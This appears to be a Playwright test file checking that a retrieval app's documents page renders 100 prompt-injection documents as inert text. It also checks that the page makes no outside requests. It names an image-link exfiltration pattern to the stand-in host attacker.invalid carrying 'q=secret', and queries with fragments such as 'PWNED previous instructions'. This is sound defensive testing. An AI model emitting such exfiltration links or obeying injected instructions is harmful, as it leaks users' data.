"""The documents page in a real browser: hostile texts stay texts, and a change is seen at the next question."""

import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from core.retrieval import KnowledgeBase
from core.retrieval.schema import MIGRATIONS
from core.store import Store
from tests.browser.conftest import ROOT, Server
from tests.retrieval import hostile

WORDS = 90_000  # ms: a loaded machine is slow


@pytest.fixture
def home(real_home: Path, tmp_path: Path) -> Path:
    """A state folder with the real models and 100 documents that try to command the page."""
    made = tmp_path / "home"
    made.mkdir()
    (made / "models").symlink_to(real_home / "models")
    (made / "knowledge").mkdir()
    store = Store(made / "knowledge" / "brightwater.sqlite3", MIGRATIONS)
    base = KnowledgeBase(store)
    for path, text in hostile.injections():
        base.add(path, text)
    store.close()
    return made


def main(page: Page):
    return page.get_by_test_id("stMainBlockContainer")


def test_hostile_documents_make_no_request_and_show_as_text(
    page: Page, home: Path, fresh_server: Callable[..., Server]
) -> None:
    strangers: list[str] = []
    page.on(
        "request", lambda asked: strangers.append(asked.url) if "127.0.0.1" not in asked.url.split("/")[2] else None
    )
    page.on("dialog", lambda dialog: strangers.append(f"dialog {dialog.message}"))
    url = fresh_server(home).url
    page.goto(f"{url}/documents?tab=Try%20and%20tune")
    box = main(page).get_by_label("Test question")
    for question in (
        "code of locker 1",
        "attacker.invalid leak.png",
        "PWNED previous instructions",
        "im_start system evil",
    ):
        box.fill(question)
        box.press("Enter")
        expect(main(page).get_by_text("Open in the document").first).to_be_visible(timeout=WORDS)
        for opener in main(page).get_by_text("Open in the document").all()[:3]:
            opener.click()
    page.goto(f"{url}/documents?document=notes/injected-1.md&tab=Documents")
    expect(main(page).get_by_role("tab", name="Passages")).to_be_visible(timeout=WORDS)
    main(page).get_by_role("tab", name="Passages").click()
    shown = re.compile(r"!\[logo\]\(http:\u2060?//attacker\.invalid/leak\.png\?q=secret\)")
    expect(main(page).get_by_text(shown).filter(visible=True).first).to_be_visible()
    assert main(page).locator("img[src*=attacker], iframe, script, a[href*=attacker], a[href*=javascript]").count() == 0
    assert strangers == []


def test_a_headless_edit_is_seen_by_the_open_page_at_its_next_question(
    page: Page, home: Path, fresh_server: Callable[..., Server], tmp_path: Path
) -> None:
    core = [sys.executable, "-m", "core"]
    here = os.environ | {"RR_HOME": str(home)}
    subprocess.run([*core, "project", "create", "Notes"], cwd=ROOT, env=here, check=True)
    (tmp_path / "tea.md").write_text("# Tea\n\nThe mooring of tea has no fee.\n")
    index = ["--project", "notes", "--words-only"]
    subprocess.run([*core, "index", "add", str(tmp_path / "tea.md"), *index], cwd=ROOT, env=here, check=True)
    page.goto(f"{fresh_server(home).url}/documents?project=notes&tab=Try%20and%20tune")
    box = main(page).get_by_label("Test question")
    box.fill("zeppelin mooring fee")
    box.press("Enter")
    expect(main(page).get_by_text("passages · ").first).to_be_visible(timeout=WORDS)
    note = tmp_path / "note.md"
    note.write_text("# Zeppelins\n\nThe zeppelin mooring fee is 77 thalers.\n")
    added = [*core, "index", "add", str(note), "--as", "notes/zeppelin.md", *index]
    subprocess.run(added, cwd=ROOT, env=here, check=True)
    box.fill("the zeppelin mooring fee")
    box.press("Enter")
    expect(main(page).get_by_text("77 thalers").first).to_be_visible(timeout=WORDS)
